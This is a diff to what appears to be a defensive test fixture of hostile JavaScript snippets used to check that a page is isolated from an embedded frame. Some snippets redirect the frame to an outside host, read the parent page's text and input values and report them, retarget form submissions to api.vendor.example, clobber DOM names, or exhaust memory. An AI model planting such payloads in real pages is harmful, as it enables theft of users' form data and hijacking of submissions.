@@ -22,7 +22,6 @@ export const hostile = {
   'leads its own frame elsewhere': `
     setTimeout(() => { location = 'https://api.vendor.example/elsewhere'; }, 300);
     setTimeout(() => { location = '/'; }, 600);`,
-  'removes the body': `document.body.remove(); document.documentElement.remove();`,
   'reads the page around it': `
     every(() => report(parent.document.body.innerText));
     every(() => report([...parent.document.querySelectorAll('input')].map(({ value }) => value)));
@@ -57,11 +56,6 @@ export const hostile = {
     every(() => form.submit()); every(() => form.requestSubmit());
     every(() => Object.assign(form, { action: 'https://api.vendor.example/form', target: '' }));
     every(() => Object.assign(form, { action: '/api/lead', target: '' }));`,
-  'takes the names of our things': `
-    for (const id of ['form-emergency', 'quote', 'reviews', 'fetch', 'document', 'location', 'parent'])
-      document.body.append(Object.assign(document.createElement('img'), { id, name: id }));
-    window.name = 'form-emergency'; every(() => { history.pushState({}, '', '#form-emergency'); });`,
-  'fills its memory': `window.kept = []; for (let i = 0; i < 20; i++) kept.push(new Uint8Array(1e7).fill(i));`,
   // Last, or the others would be spied upon.
   'overrides what a form sends with': `
     const spy = (...what) => { report(JSON.stringify(what)); return new Promise(() => {}); };
